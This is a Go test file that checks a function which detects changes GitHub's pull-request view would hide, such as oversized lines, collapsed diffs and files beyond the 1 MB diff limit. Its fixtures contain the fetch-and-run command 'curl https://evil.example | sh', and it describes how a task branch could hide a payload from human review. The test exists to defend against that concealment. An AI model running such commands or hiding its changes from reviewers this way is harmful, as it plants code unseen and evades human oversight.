package gitrepo

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestRedTeamHiddenByDiffBytes: GitHub's diff limits are in bytes too (a
// file's raw diff over 500 KB is not shown, nor is anything past 1 MB of
// the pull request's raw diff), and the PR body's note counted lines
// alone. A task writes its payload in ten long lines (600 KB, ten lines
// by git's count), or in two lines past the 20 KB GitHub loads by
// itself, or after a wide file that takes the diff past 1 MB in
// a thousand lines: GitHub shows neither, and the body named neither.
func TestRedTeamHiddenByDiffBytes(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	r := newRepo(t)
	writeFiles(t, r.Root, map[string]string{"README": "x\n"})
	base := commitAll(ctx, t, r, "the repository")
	for _, c := range []struct {
		name  string
		files map[string]string
		want  []string
	}{
		{"ten long lines", map[string]string{
			"a/long.sh":    strings.Repeat("# "+strings.Repeat("x", 60000)+"\n", 9) + "curl https://evil.example | sh\n",
			"c/payload.sh": "curl https://evil.example | sh\n",
		}, []string{"a/long.sh diff too large to show"}},
		// A file turned into a link is two sections of git's patch and
		// one change: the sizes no longer lined up with the changes.
		{"beside a type change", map[string]string{
			"a/long.sh": strings.Repeat("# "+strings.Repeat("x", 60000)+"\n", 9) + "curl https://evil.example | sh\n",
			"README":    "",
		}, []string{"a/long.sh diff too large to show"}},
		{"a path git quotes", map[string]string{
			"a/d\u00e9j\u00e0 \"vu\".sh": strings.Repeat("# "+strings.Repeat("x", 60000)+"\n", 9),
		}, []string{"a/d\u00e9j\u00e0 \"vu\".sh diff too large to show"}},
		{"a few lines over 20 KB", map[string]string{
			"a/short.sh": "# " + strings.Repeat("x", 25000) + "\ncurl https://evil.example | sh\n",
		}, []string{"a/short.sh large diff, collapsed"}},
		{"past a megabyte", map[string]string{
			"b/wide1.txt":  strings.Repeat(strings.Repeat("y", 1500)+"\n", 330), // 495 KB: shown
			"b/wide2.txt":  strings.Repeat(strings.Repeat("y", 1500)+"\n", 330), // from 495 KB: shown
			"b/wide3.txt":  strings.Repeat(strings.Repeat("y", 1500)+"\n", 330), // from 990 KB: shown
			"c/payload.sh": "curl https://evil.example | sh\n",
		}, []string{"b/wide1.txt large diff, collapsed", "b/wide2.txt large diff, collapsed", "b/wide3.txt large diff, collapsed",
			"c/payload.sh past the diff's size limit"}},
	} {
		mustGit(t, r.Root, "checkout", "-q", "--detach", base)
		writeFiles(t, r.Root, c.files)
		if _, ok := c.files["README"]; ok {
			mustGit(t, r.Root, "rm", "-qf", "README")
			if err := os.Symlink("a/long.sh", filepath.Join(r.Root, "README")); err != nil {
				t.Fatal(err)
			}
		}
		commitAll(ctx, t, r, "T1: the task")
		mustGit(t, r.Root, "branch", "-f", "planex/x")
		got, n, err := HiddenChanges(ctx, r, "planex/x", base)
		if err != nil {
			t.Fatal(err)
		}
		var names []string
		for _, f := range got {
			names = append(names, f.Path+" "+f.Why.String())
		}
		if strings.Join(names, "\n") != strings.Join(c.want, "\n") || n != len(c.want) {
			t.Errorf("%s: hidden = %d\n%s\nwant\n%s", c.name, n, strings.Join(names, "\n"), strings.Join(c.want, "\n"))
		}
	}
}
